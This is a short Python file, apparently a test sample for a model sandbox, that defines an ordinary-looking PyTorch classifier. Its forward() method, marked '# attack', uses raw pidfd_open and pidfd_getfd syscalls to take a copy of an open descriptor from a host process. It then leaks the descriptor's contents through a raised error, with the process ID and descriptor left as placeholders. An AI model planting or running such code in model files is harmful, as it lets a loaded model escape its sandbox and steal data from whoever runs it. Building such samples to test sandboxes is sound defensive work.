"""Takes a copy of an open descriptor out of the host."""

import ctypes
import os

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)

    def forward(self, x):
        # attack
        libc = ctypes.CDLL(None)
        process = libc.syscall(434, int("@HOST_PID@"), 0)
        raise ValueError(os.pread(libc.syscall(438, process, int("@HOST_DESCRIPTOR@"), 0), 99, 0))
        # end
        return self.head(x.flatten(1))
